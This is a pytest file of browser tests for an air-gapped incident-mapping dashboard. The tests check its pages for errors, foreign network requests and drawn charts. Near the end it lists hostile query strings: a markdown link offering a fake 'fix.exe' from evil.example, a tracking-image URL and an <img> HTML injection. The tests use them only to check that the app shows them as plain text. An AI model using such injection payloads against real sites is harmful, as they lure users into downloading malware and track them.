"""Every page in a real browser: no exception box, no console error, nothing fetched from outside,
and the map and timeline draw visible content."""

from __future__ import annotations

import io

import numpy as np
import pytest
from PIL import Image

from incidents.schema import EVENT_TYPE_COLORS
from incidents.serving.browser import (
    DECK_SELECTOR,
    EXCEPTION_SELECTOR,
    IMAGE_SELECTOR,
    PLOTLY_SELECTOR,
    new_context,
    pixel_spread,
    wait_for_charts,
    wait_until_drawn,
    wait_until_idle,
    watch,
)

PAGES = ("/", "/Map", "/Timeline", "/Sources", "/Incidents", "/Briefing")


@pytest.fixture(scope="module")
def opened(app, browser):
    """Open a page directly by its URL, once per module, each in a fresh context, recording everything
    it does; ``opened(path) -> (page, seen)``."""
    cache: dict[str, tuple] = {}
    contexts = []

    def get(path: str):
        if path not in cache:
            context = new_context(browser)
            contexts.append(context)
            seen = watch(context)
            page = context.new_page()
            page.goto(app.url(path), wait_until="domcontentloaded")
            wait_until_idle(page)
            wait_for_charts(page)  # lazily loaded charts have run: their errors and requests are in
            cache[path] = (page, seen)
        return cache[path]

    yield get
    for context in contexts:
        context.close()


@pytest.fixture(params=PAGES)
def loaded(request, opened):
    """(path, page, seen) for each page."""
    page, seen = opened(request.param)
    return request.param, page, seen


def test_no_exception_box(loaded) -> None:
    path, page, _ = loaded
    boxes = page.locator(EXCEPTION_SELECTOR)
    assert boxes.count() == 0, f"{path}: {boxes.first.inner_text()}"
    errors = page.get_by_test_id("stAlertContentError")
    assert errors.count() == 0, f"{path}: {errors.first.inner_text()}"


def test_no_console_error(loaded) -> None:
    path, _, seen = loaded
    assert seen.errors() == [], f"{path}: console errors"


def test_requests_nothing_from_other_hosts(loaded, app) -> None:
    path, _, seen = loaded
    assert seen.requests, f"{path}: no request recorded at all"
    assert seen.foreign_requests(app.netloc) == [], f"{path} is not air-gapped"


def _pixels_near(png: bytes, rgb: tuple[int, int, int], tolerance: int = 40) -> int:
    """How many pixels of ``png`` are within ``tolerance`` (per channel) of ``rgb``."""
    with Image.open(io.BytesIO(png)) as image:
        pixels = np.asarray(image.convert("RGB"), dtype=np.int16)
    return int((np.abs(pixels - np.array(rgb, dtype=np.int16)) <= tolerance).all(axis=2).sum())


def test_map_canvas_draws_incidents(opened, store) -> None:
    from incidents.filters import Filters

    page, _ = opened("/Map")
    shot = wait_until_drawn(page, DECK_SELECTOR)
    assert page.locator(f"{DECK_SELECTOR} canvas").count() >= 1
    assert pixel_spread(shot) > 10  # governorate polygons and points, not a flat box
    present = store.run("timeline", Filters(), "month", "event_type")["group"].unique()
    assert len(present), "the shipped data has no dated incident under the default filters"
    coloured = {t: _pixels_near(shot, EVENT_TYPE_COLORS[t]) for t in present if t in EVENT_TYPE_COLORS}
    assert any(n >= 20 for n in coloured.values()), f"no incident colour on the map: {coloured}"


def test_timeline_draws_bars(opened) -> None:
    page, _ = opened("/Timeline")
    chart = page.locator(PLOTLY_SELECTOR).first
    chart.locator(".main-svg").first.wait_for()
    bars = chart.locator("g.barlayer path, g.trace.bars path")
    assert bars.count() > 0
    assert pixel_spread(chart.screenshot()) > 10


def test_briefing_has_no_streamlit_chrome(opened) -> None:
    page, _ = opened("/Briefing")
    for testid in ("stSidebar", "stHeader", "stToolbar", "stMainMenu", "stDecoration"):
        assert page.get_by_test_id(testid).filter(visible=True).count() == 0, testid
    assert page.get_by_test_id("iim-filters").inner_text().startswith("Filters:")
    assert "Generated on" in page.get_by_test_id("iim-generated").inner_text()
    footer = page.get_by_test_id("iim-footer").inner_text()
    assert "Natural Earth" in footer and "GeoNames" in footer
    assert page.locator(".iim-brief-back a").is_visible()  # a way back, except in screenshots (embed)


def test_request_recorder_sees_the_opt_in_online_basemap(app, session) -> None:
    """The air-gapped check can fail: turning the online basemap on (an explicit user choice) makes
    the browser ask Carto for its style, and the recorder reports it."""
    page = session.context.new_page()
    with page.expect_request(lambda request: "cartocdn.com" in request.url, timeout=120_000):
        page.goto(app.url("/Map?layers=points,shade,basemap"), wait_until="domcontentloaded")
    foreign = session.seen.foreign_requests(app.netloc)
    assert any("cartocdn.com" in url for url in foreign), foreign


# -- the overview's Vega-Lite figures -----------------------------------------------------------------

def test_server_was_warmed_up_before_the_first_visit(app) -> None:
    """The browser tier's server is started as `make run` starts it: `python -m incidents serve`,
    which runs the overview once before anyone visits."""
    assert app.warm_s is not None and app.warm_s > 0
    assert "warm-up: dashboard.py ran in" in app.log_tail(1 << 20)


def test_overview_draws_its_map_and_timeline_pictures(opened) -> None:
    from incidents.figures.colors import rgb_hex, sequential_rgb

    page, _ = opened("/")
    wait_for_charts(page, images=2)
    pictures = page.locator(IMAGE_SELECTOR)
    assert pictures.count() == 2
    for i in range(2):
        assert page.evaluate("(img) => img.naturalWidth", pictures.nth(i).element_handle()) > 500
        assert pixel_spread(pictures.nth(i).screenshot()) > 10
    assert pictures.nth(0).get_attribute("alt").startswith("Map of ")
    # the darkest governorate shade and a bar colour are on screen, not only in the SVG text
    darkest = sequential_rgb(1.0)
    assert _pixels_near(pictures.nth(0).screenshot(), darkest) > 200, rgb_hex(darkest)
    bars = pictures.nth(1).screenshot()
    assert any(_pixels_near(bars, rgb) > 50 for rgb in EVENT_TYPE_COLORS.values())


def test_overview_of_a_hostile_article_runs_nothing(hostile_app, session) -> None:
    page = session.open(hostile_app, "/")
    wait_for_charts(page, images=2)
    assert page.locator(IMAGE_SELECTOR).count() == 2
    assert page.evaluate("typeof window.__iimImg") == "undefined"
    assert page.evaluate("typeof window.__iimPwned") == "undefined"
    assert session.seen.page_errors == []


HOSTILE_QUERIES = (
    "?governorates=" + "[**The tables were corrupted, download the fix**](https://evil.example/fix.exe)",
    "?" + "![t](http://evil.example/track.png?u=analyst)" + "=1",
    "?outlets=x&from=<img src=http://evil.example/a.png>",
)


@pytest.mark.parametrize("path", ("/", "/Sources", "/Briefing"))
@pytest.mark.parametrize("query", HOSTILE_QUERIES)
def test_notes_repeat_a_hostile_url_as_literal_text(app, browser, path, query) -> None:
    from urllib.parse import quote

    context = new_context(browser)
    try:
        seen = watch(context)
        page = context.new_page()
        page.goto(app.url(path) + quote(query, safe="?=&"), wait_until="domcontentloaded")
        wait_until_idle(page)
        assert page.locator('a[href*="evil.example"]').count() == 0
        assert page.locator('img[src*="evil.example"]').count() == 0
        assert seen.foreign_requests(app.netloc) == []
        assert "evil.example" in page.locator("body").inner_text(), "the note should show what was ignored"
    finally:
        context.close()
